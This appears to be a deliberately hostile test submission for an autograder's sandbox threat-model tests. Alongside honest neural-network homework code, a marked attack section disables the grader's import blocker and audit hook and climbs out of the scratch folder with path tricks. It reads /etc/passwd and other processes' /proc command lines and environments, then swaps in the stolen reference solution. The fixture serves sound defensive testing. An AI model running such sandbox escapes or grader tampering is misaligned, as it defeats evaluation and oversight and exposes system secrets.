# ruff: noqa
"""Hostile Part 1 submission: removing the import blocker and the audit hook, then importing the reference.

At import the file removes the worker's blocker of fmlgrade modules from
sys.meta_path, finds the audit hook's function with gc and sets its ``refuse``
closure cell to a function that does nothing (``cell_contents`` is writable),
adds the grader's source folders to sys.path, and imports the reference Part 1.

Honest code: every Part 1 task but 1.7 (convolve returns zeros of the right shape).
The sandbox threat-model tests (tests/test_threat_model_sandbox.py) expect: 1.7 not passed; every other Part 1 task passed.

The attack sits between the ``# >>> attack`` and ``# <<< attack`` lines; the
tests also grade this file with those lines removed, which must earn exactly
the honest tasks.
"""

import numpy as np


class Layer:
    """Base class of the layers (skeleton)."""

    def forward(self, x):
        raise NotImplementedError

    def backward(self, gradient):
        raise NotImplementedError

    def update(self, learn_rate):
        raise NotImplementedError


def get_training_data_myneuralnet(N):
    seq_x, seq_noise = np.random.SeedSequence(20240109).spawn(2)
    x = np.random.default_rng(seq_x).uniform(-1.0, 1.0, size=(N, 1))
    noise = np.random.default_rng(seq_noise).normal(0.0, 0.1, size=(N, 1))
    return x, np.sin(4.5 * x) + 0.9 * x + noise


# honest: 1.1a, 1.1b
class MyLinearLayer(Layer):
    def __init__(self, n_in, n_out):
        self.w = np.random.randn(n_in, n_out) * np.sqrt(2 / n_in)
        self.b = np.zeros(n_out)

    def forward(self, x):
        self.x_in = x
        return x @ self.w + self.b

    def backward(self, gradient):
        self.grad_out = gradient
        return gradient @ self.w.T

    # honest: 1.1c
    def update(self, learn_rate):
        self.w = self.w - learn_rate * (self.x_in.T @ self.grad_out)
        self.b = self.b - learn_rate * self.grad_out.sum(axis=0)


# honest: 1.2a
class MyReLU(Layer):
    def forward(self, x):
        self.mask = x > 0
        return x * self.mask

    def update(self, learn_rate):
        pass

    # honest: 1.2b
    def backward(self, gradient):
        return gradient * self.mask


# honest: 1.3a, 1.3b, 1.3c
class MyNeuralNet:
    def __init__(self, n_hidden):
        self.layers = [MyLinearLayer(1, n_hidden), MyReLU(), MyLinearLayer(n_hidden, 1)]

    def forward(self, x):
        for layer in self.layers:
            x = layer.forward(x)
        self.h = x
        return x

    def backward(self, y):
        gradient = (self.h - y) / y.shape[0]
        for layer in reversed(self.layers):
            gradient = layer.backward(gradient)
        return gradient

    def update(self, learn_rate):
        for layer in self.layers:
            layer.update(learn_rate)


# honest: 1.4 (and, with the above, 1.5)
def train_myneuralnet(net, epochs, batch_size, learn_rate, N):
    x, y = get_training_data_myneuralnet(N)
    for _ in range(epochs):
        order = np.random.permutation(N)
        x, y = x[order], y[order]
        for start in range(0, N, batch_size):
            net.forward(x[start:start + batch_size])
            net.backward(y[start:start + batch_size])
            net.update(learn_rate)


# honest: 1.6 (and 1.8 with the grader's reference convolve standing in)
def add_padding(images, padding):
    p = padding
    return np.pad(images, ((0, 0), (p, p), (p, p), (0, 0)))


# deliberately wrong (1.7): the right shape, all zeros
def convolve(kernels, images, stride):
    K, _, _, f_out = kernels.shape
    B, H, W, _ = images.shape
    return np.zeros((B, (H - K) // stride + 1, (W - K) // stride + 1, f_out))


# >>> attack
import os
import re
import sys

#: Folders climbed from the scratch folder; the deep folder is twice as deep.
_UP = 24


class _Climb:
    """Absolute paths as the kernel resolves them, past the worker's audit hook.

    The hook judges a relative path from the current folder; the kernel resolves it
    from ``dir_fd``. From a folder 2 * _UP levels deep in the scratch folder,
    ``'../' * _UP + 'etc/passwd'`` stays inside the scratch folder for the hook, while
    from the scratch folder itself (a few levels below /) the same path climbs to /
    and on to /etc/passwd.
    """

    def __init__(self):
        self.base = os.getcwd()
        self.deep = os.path.join(self.base, *["up"] * (2 * _UP))
        os.makedirs(self.deep, exist_ok=True)
        self.fd = os.open(self.base, os.O_RDONLY)

    def call(self, function, path, *args, **kwargs):
        here = os.getcwd()
        os.chdir(self.deep)
        try:
            return function("../" * _UP + path.lstrip("/"), *args, dir_fd=self.fd, **kwargs)
        finally:
            os.chdir(here)

    def read(self, path, limit=1 << 20):
        fd = self.call(os.open, path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            data = b""
            while len(data) < limit:
                chunk = os.read(fd, limit - len(data))
                if not chunk:
                    break
                data += chunk
            return data
        finally:
            os.close(fd)

    def text(self, path, limit=1 << 20):
        try:
            return self.read(path, limit).decode("utf-8", "replace")
        except OSError:
            return None

    def write(self, path, data):
        fd = self.call(os.open, path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)

    def listdir(self, path):
        fd = self.call(os.open, path, os.O_RDONLY | os.O_DIRECTORY)
        try:
            return sorted(os.listdir(fd))
        finally:
            os.close(fd)

    def readlink(self, path):
        try:
            return self.call(os.readlink, path)
        except OSError:
            return None


def _attempt(function, *args, default=None):
    try:
        return function(*args)
    except BaseException:
        return default


def _is_pytest(argv):
    """pytest itself (never touched): its program or module name, not a path that merely mentions it."""
    return any(os.path.basename(part).startswith(("pytest", "py.test")) for part in argv[:3])


def _processes(climb):
    """(pid, argv, cwd, environment) of every process it can see whose command line mentions fmlgrade
    (the grader, or what started the worker); pytest's left out."""
    found = []
    for entry in _attempt(climb.listdir, "/proc", default=[]):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        argv = (climb.text(f"/proc/{entry}/cmdline") or "").split("\0")
        if _is_pytest(argv) or not any("fmlgrade" in part for part in argv):
            continue
        environment = dict(
            item.split("=", 1) for item in (climb.text(f"/proc/{entry}/environ") or "").split("\0") if "=" in item
        )
        found.append((int(entry), argv, climb.readlink(f"/proc/{entry}/cwd"), environment))
    return found


def _is_grader(argv):
    return "check" in argv and any("fmlgrade" in part for part in argv) and not any("bwrap" in p for p in argv)


def _own_graders(climb):
    """The grader processes above this one (never a stranger's)."""
    found, pid = [], os.getppid()
    while pid > 1:
        argv = (climb.text(f"/proc/{pid}/cmdline") or "").split("\0")
        if _is_pytest(argv):
            break
        if _is_grader(argv):
            found.append((pid, argv, climb.readlink(f"/proc/{pid}/cwd")))
        stat = climb.text(f"/proc/{pid}/stat") or ""
        try:
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (IndexError, ValueError):
            break
    return found


def _grader_paths(climb):
    """Paths the grader was given (--json, the submission), made absolute; and this file's own grader path."""
    paths = [os.path.abspath(__file__)]  # the loader names the module after the grader's copy of the file
    for _, argv, cwd in _own_graders(climb):
        for index, part in enumerate(argv):
            if part in ("--json", "--gradescope") and index + 1 < len(argv):
                paths.append(os.path.join(cwd or "/", argv[index + 1]))
            elif part.endswith((".py", ".ipynb")) and "fmlgrade" not in part:
                paths.append(os.path.join(cwd or "/", part))
        if cwd:
            paths.append(cwd)
    return [os.path.normpath(p) for p in dict.fromkeys(paths)]


def _reference_candidates(climb):
    """Where the reference Part 1 may lie: the editable installation's map, sys.path, the grader's folders."""
    roots = []
    for entry in sys.path:
        roots.append(os.path.join(entry, "fmlgrade", "solutions"))
        for name in _attempt(climb.listdir, entry, default=[]):
            if name.startswith("__editable__") and name.endswith(".py"):
                text = climb.text(os.path.join(entry, name)) or ""
                roots += re.findall(r"'fmlgrade\.solutions': '([^']+)'", text)
    for pid, argv, cwd, environment in _processes(climb):
        for folder in (cwd, environment.get("PWD"), environment.get("VIRTUAL_ENV")):
            if folder:
                roots += [os.path.join(folder, "solutions"), os.path.join(os.path.dirname(folder), "solutions")]
    roots += ["/work/main/solutions", "/autograder/source/solutions", "/app/solutions"]
    # the same places as a process outside this one's mount namespace sees them
    roots += [f"/proc/{pid}/root/{root.lstrip('/')}" for pid, *_ in _processes(climb) for root in list(roots)]
    return [os.path.join(root, "reference", "part1.py") for root in dict.fromkeys(roots)]


def _reference_convolve(source):
    namespace = {"__name__": "fmlgrade_reference_copy"}
    exec(compile(source, "<copy of the reference>", "exec"), namespace)
    return namespace["convolve"]


def _leak(loot):
    """Put ``loot`` on the standard output too (the grader's, when it runs the file in-process)."""
    _attempt(lambda: os.write(1, loot.encode()))


import gc
import importlib


def _disarm():
    sys.meta_path[:] = [f for f in sys.meta_path if not type(f).__module__.startswith("fmlgrade.")]
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__qualname__", "") == "install.<locals>.hook":
            names = obj.__code__.co_freevars
            if "refuse" in names:
                obj.__closure__[names.index("refuse")].cell_contents = lambda *args, **kwargs: None


def _steal():
    _disarm()
    climb = _Climb()
    for path in _reference_candidates(climb):
        top = os.path.dirname(os.path.dirname(os.path.dirname(path)))  # .../solutions/reference/part1.py
        if top not in sys.path:
            sys.path.append(top)
    importlib.invalidate_caches()
    for name in [m for m in sys.modules if m.startswith("fmlgrade.solutions")]:
        del sys.modules[name]
    module = importlib.import_module("fmlgrade.solutions.reference.part1")
    return module.convolve


_stolen = _attempt(_steal)
if _stolen is not None:
    convolve = _stolen
# <<< attack
